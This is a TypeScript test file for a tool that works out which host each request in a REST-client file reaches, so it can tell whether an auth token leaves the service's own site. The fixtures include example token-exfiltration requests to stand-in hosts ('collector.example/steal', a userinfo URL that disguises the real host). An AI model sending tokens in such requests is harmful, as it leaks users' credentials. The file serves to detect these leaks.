// A token goes only to its service: the host a request names (literally or through the file's variables)
// and whether it is the account's site by the public suffix list, on tables, generated hosts and the corpus.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as fc from 'fast-check';
import { isSameSite, receivingHostsAt, requestLineHost, requestsSending } from '../../src/core/restFile/requestHost';
import { parseRestFile } from '../../src/core/restFile/requestParser';
import { CORPUS, corpusFiles } from './corpus';


describe('the host a request goes to', () => {
	const variables = new Map([['baseUrl', 'https://user.telematicssdk.com'], ['api', '{{baseUrl}}/v1'], ['evil', 'https://collector.example']]);
	const cases: Array<[string, string | undefined]> = [
		['GET https://API.telematicssdk.com/v1/trips HTTP/1.1', 'api.telematicssdk.com'],
		['https://portal-apis.telematicssdk.com/x', 'portal-apis.telematicssdk.com'],
		['POST {{baseUrl}}/v1/Auth', 'user.telematicssdk.com'],
		['GET {{api}}/Me', 'user.telematicssdk.com'],
		['GET {{evil}}/steal', 'collector.example'],
		['GET {{unknownEnv}}/v1', undefined],
		['GET /v1/relative', undefined],
		['GET http://[::1]:8080/x', '::1'],
		['GET not a url', undefined],
		// A reference the file cannot fill, after the host: the host is still known.
		['GET https://collector.example/steal?t={{unknownEnv}}', 'collector.example'],
		['GET {{evil}}/{{unknownEnv}}', 'collector.example'],
		['GET https://user.telematicssdk.com@collector.example/{{unknownEnv}}', 'collector.example'],
		['GET https://collector.example\\{{unknownEnv}}', 'collector.example'],
		['GET https://collector.example#{{unknownEnv}}', 'collector.example'],
		// ...inside the host, it is not.
		['GET https://collector{{unknownEnv}}.example/x', undefined],
		['GET https://{{unknownEnv}}/x', undefined],
	];
	for (const [line, host] of cases) it(`${line} → ${host ?? 'not said'}`, () => assert.equal(requestLineHost(line, variables), host));

	it('reads the requests under the cursors, with the file\'s own variables', () => {
		const text = '@host = https://evil.example\n\n###\nGET {{host}}/a\n\n###\nGET https://user.telematicssdk.com/b\n';
		const file = parseRestFile(text);
		assert.deepEqual(receivingHostsAt(file, [text.indexOf('GET {{host}}'), text.indexOf('GET https'), text.indexOf('/b')]), ['evil.example', 'user.telematicssdk.com']);
	});

	it('a variable that refers to itself is not followed forever', () => {
		assert.equal(requestLineHost('GET {{a}}/x', new Map([['a', '{{a}}']])), undefined);
	});
});

describe('the hosts a token in the file reaches', () => {
	const FILE = [
		'@telematicsToken = eyJ.token.sig',
		'@auth = Bearer {{telematicsToken}}',
		'@header = {{ auth }}',
		'@telematicsTokenOld = unrelated',
		'',
		'### reads the variable through two others',
		'GET https://collector.example/a',
		'Authorization: {{header}}',
		'',
		'### reads it directly, in the body',
		'POST https://user.telematicssdk.com/v1/x',
		'',
		'{"t": "{{telematicsToken}}"}',
		'',
		'### an httpYac expression naming it',
		'GET https://script.example/?t={{ telematicsToken.slice(0) }}',
		'',
		'### a longer name that only starts like it',
		'GET https://old.example/{{telematicsTokenOld}}',
		'',
		'### a token of its own, in the query',
		'GET https://query.example/?access_token=eyJ.other.sig',
		'',
		'### nothing of it',
		'GET https://quiet.example/',
		'',
	].join('\n');
	const file = parseRestFile(FILE);

	it('a token in a file variable reaches every request that reads it, however indirectly', () => {
		assert.deepEqual(receivingHostsAt(file, [FILE.indexOf('eyJ.token')]), ['collector.example', 'user.telematicssdk.com', 'script.example']);
	});

	it('a token in a request reaches that request only', () => {
		assert.deepEqual(receivingHostsAt(file, [FILE.indexOf('eyJ.other')]), ['query.example']);
	});

	it('a request that others read by its name (REST Client\'s {{name.request.headers…}}) reaches them too, through variables as well', () => {
		const text = [
			'@copied = {{trips.request.headers.Authorization}}', '',
			'### ours', '# @name trips', 'GET https://user.telematicssdk.com/v1/trips', 'Authorization: Bearer eyJ.ours.sig', '',
			'### reads its header', 'GET https://collector.example/?h={{trips.request.headers.Authorization}}', '',
			'### reads it through a variable', '// @name=second', 'POST https://relay.example/', 'X: {{copied}}', '',
			'### reads the second by name', 'GET https://third.example/{{second.response.body.$}}', '',
			'### a name that only starts like it', 'GET https://quiet.example/{{tripsOld.request.headers.Authorization}}', '',
		].join('\n');
		assert.deepEqual(receivingHostsAt(parseRestFile(text), [text.indexOf('eyJ.ours')]), ['user.telematicssdk.com', 'collector.example', 'relay.example', 'third.example']);
	});

	it('a variable that reads itself, or two that read each other, end the search', () => {
		const loop = parseRestFile('@a = {{b}}\n@b = {{a}}\n\n###\nGET https://x.example/{{a}}\n');
		assert.equal(requestsSending(loop, { variables: ['b'] }).length, 1);
	});

	it('follows a chain of variables of any length to the request at its end, and never a name that only starts the same (generated)', () => {
		const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,8}$/);
		fc.assert(fc.property(name, fc.integer({ min: 0, max: 12 }), fc.constantFrom('', ' ', '  '), (token, depth, pad) => {
			const chain = Array.from({ length: depth }, (_, i) => `@v${i}_${token} = x {{${pad}${i === 0 ? token : `v${i - 1}_${token}`}${pad}}} y`);
			const last = depth === 0 ? token : `v${depth - 1}_${token}`;
			const text = [`@${token} = eyJ.a.b`, ...chain, `@${token}2 = {{${token}x}}`, '', '###', 'GET https://end.example/', `X-Token: {{${last}}}`, '', '###', 'GET https://near.example/', `X-Token: {{${token}2}}`, ''].join('\n');
			assert.deepEqual(receivingHostsAt(parseRestFile(text), [text.indexOf('eyJ')]), ['end.example']);
		}), { numRuns: 200 });
	});

	it('over the real corpus: a request whose block holds {{name}} is always among those that read name', () => {
		if (!fs.existsSync(CORPUS)) assert.fail(`${CORPUS} is missing`);
		let checked = 0;
		for (const fileName of corpusFiles()) {
			const parsed = parseRestFile(fs.readFileSync(path.join(CORPUS, fileName), 'utf8'));
			for (const variable of parsed.variables) {
				const readers = new Set(requestsSending(parsed, { variables: [variable.name] }).map((r) => r.requestLine));
				for (const request of parsed.requests) {
					const block = parsed.lines.slice(request.requestLine, request.blockEnd + 1).map((l) => l.text).join('\n');
					if (block.includes(`{{${variable.name}}}`)) {
						checked++;
						assert.ok(readers.has(request.requestLine), `${fileName}: the request on line ${request.requestLine + 1} reads {{${variable.name}}}`);
					}
				}
			}
		}
		assert.ok(checked > 100, `only ${checked} uses of a file variable read`);
	});
});

describe('the same site as the service', () => {
	const cases: Array<[string, string, boolean]> = [
		['api.telematicssdk.com', 'https://user.telematicssdk.com', true],
		['portal-apis.telematicssdk.com', 'https://user.telematicssdk.com/', true],
		['telematicssdk.com.evil.example', 'https://user.telematicssdk.com', false],
		['evil-telematicssdk.com', 'https://user.telematicssdk.com', false],
		['a.github.io', 'https://b.github.io', false], // a private suffix: two sites
		['api.example.co.uk', 'https://user.example.co.uk', true],
		['example.co.uk', 'https://other.co.uk', false],
		['localhost', 'http://127.0.0.1:4000', true],
		['10.0.0.2', 'https://10.0.0.1', false],
		['10.0.0.1', 'https://10.0.0.1:8443', true],
		['intranet', 'https://intranet', true],
		['intranet', 'https://other', false],
		['xn--0.example.com', 'https://xn--0.example.com', false], // a service URL that is no URL (bad punycode) matches nothing
	];
	for (const [host, service, same] of cases) it(`${host} vs ${service}: ${same ? 'same' : 'another'} site`, async () => assert.equal(await isSameSite(host, service), same));

	it('a host is always its own site; a host under another registrable domain never is (generated)', async () => {
		// Not `xn--…`: most such labels are bad punycode, so the service URL is no URL (the case above).
		const label = fc.stringMatching(/^[a-z][a-z0-9-]{0,10}[a-z0-9]$/).filter((l) => !l.startsWith('xn--'));
		// `zq…`: a name no public suffix list entry ends in (it.com is one: a.it.com and b.it.com are two sites).
		await fc.assert(fc.asyncProperty(label, label.map((l) => `zq${l}`), label, async (sub, name, other) => {
			const service = `https://${sub}.${name}.com`;
			assert.equal(await isSameSite(`${other}.${name}.com`, service), true);
			assert.equal(await isSameSite(`${sub}.${name}.com.${other}.net`, service), false);
			assert.equal(await isSameSite(`${sub}.${name}x.com`, service), false);
		}), { numRuns: 300 });
	});
});

describe('request hosts over the real corpus', () => {
	it('every request of every file gives a host or says the file does not tell, and a literal URL gives its own host', function () {
		if (!fs.existsSync(CORPUS)) assert.fail(`${CORPUS} is missing`);
		let literal = 0;
		for (const name of corpusFiles()) {
			const file = parseRestFile(fs.readFileSync(path.join(CORPUS, name), 'utf8'));
			const variables = new Map(file.variables.map((v) => [v.name, v.value.trim()]));
			for (const request of file.requests) {
				const line = file.lines[request.requestLine]!.text;
				const host = requestLineHost(line, variables);
				const url = /^\s*(?:[A-Z]+\s+)?(https?:\/\/[^\s{}]+)(?:\s|$)/i.exec(line)?.[1];
				if (url) {
					literal++;
					assert.equal(host, new URL(url).hostname.toLowerCase().replace(/^\[|\]$/g, ''), `${name}: ${line}`);
				}
			}
		}
		assert.ok(literal > 50, `only ${literal} literal URLs read`);
	});
});
